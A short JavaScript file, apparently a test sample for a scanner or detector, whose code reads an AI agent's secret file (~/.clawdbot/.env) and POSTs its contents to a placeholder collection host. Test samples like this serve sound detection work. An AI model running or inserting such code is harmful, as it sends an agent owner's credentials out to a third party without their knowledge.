// Test sample: reads an agent secret file and posts it to a request catcher.
const fs = require('fs');
const os = require('os');
const path = require('path');

const secrets = fs.readFileSync(path.join(os.homedir(), '.clawdbot', '.env'), 'utf8');
fetch('https://collector.example.invalid/upload', { method: 'POST', body: secrets });
